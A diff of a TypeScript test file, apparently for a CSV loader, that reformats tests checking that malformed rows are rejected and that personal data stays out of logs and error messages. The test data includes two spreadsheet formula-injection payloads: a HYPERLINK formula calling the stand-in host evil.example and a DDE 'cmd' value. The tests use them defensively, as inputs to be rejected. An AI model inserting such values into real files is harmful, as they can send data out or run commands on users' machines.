@@ -28,12 +28,19 @@ describe("rejected rows", () => {
     const report = await p.withDb((db) => ingestSources(db, p.config, { now: new Date("2026-01-02T03:04:05Z") }));
     expect(report.files[0]).toMatchObject({ loaded: 2, rejected: 4 });
     const expected = [
-      { line: 3, column: "amount", value: '=HYPERLINK("http://evil.example/?","x")', reason: "not a number (expected e.g. 1234.56)" },
+      {
+        line: 3,
+        column: "amount",
+        value: '=HYPERLINK("http://evil.example/?","x")',
+        reason: "not a number (expected e.g. 1234.56)",
+      },
       { line: 4, column: "*", value: "found 5, expected 4", reason: "wrong number of fields" },
       { line: 5, column: "*", value: "found 3, expected 4", reason: "wrong number of fields" },
       { line: 6, column: "amount", value: "-2+3+cmd|' /C calc'!A0", reason: "not a number (expected e.g. 1234.56)" },
     ];
-    const rows = await p.withDb((db) => db.all(`select line, "column", value, reason from rejected_rows order by line`));
+    const rows = await p.withDb((db) =>
+      db.all(`select line, "column", value, reason from rejected_rows order by line`),
+    );
     expect(rows).toEqual(expected);
     const text = readFileSync(report.rejectedFiles[0], "utf8");
     for (const secret of ["Wang Fang", "13800000001", "Zhangjiang"]) {
@@ -54,7 +61,7 @@ describe("rejected rows", () => {
   it("over the limit fail with a message that names file, line, column and reason but not the raw line", async () => {
     const p = project(txConfig("orders.csv"), { "orders.csv": CSV });
     const error = await p.withDb((db) => ingestSources(db, p.config)).catch((e) => e);
-    expect(error.message).toContain("line 4, column *, value \"found 5, expected 4\": wrong number of fields");
+    expect(error.message).toContain('line 4, column *, value "found 5, expected 4": wrong number of fields');
     for (const secret of ["Wang Fang", "13800000001", "Zhangjiang"]) expect(error.message).not.toContain(secret);
   });
 });
